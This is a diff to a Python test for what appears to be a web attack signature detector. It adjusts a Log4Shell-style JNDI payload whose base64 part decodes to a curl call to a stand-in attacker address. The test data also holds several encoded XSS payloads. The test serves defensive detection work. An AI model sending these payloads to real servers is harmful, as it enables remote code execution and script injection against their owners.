@@ -53,7 +53,7 @@ def matched(path: str, query: str | None = None, ua: str = "Mozilla/5.0") -> set
     ("/search", "q=%26%23x3C%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26%23x3E%3B", "x", "sig-xss"),
     ("/search", "q=&#60script&#62alert(1)", "x", "sig-xss"),
     # base64 inside a lookup string is decoded beside it
-    ("/", None, "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}", "sig-rce"),
+    ("/", None, "${jndi:ldap://198.51.100.7/Basic/Command/Base64/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}", "sig-rce"),
 ])
 def test_payloads_are_recognised(path, query, ua, expected):
     assert expected in matched(path, query, ua)
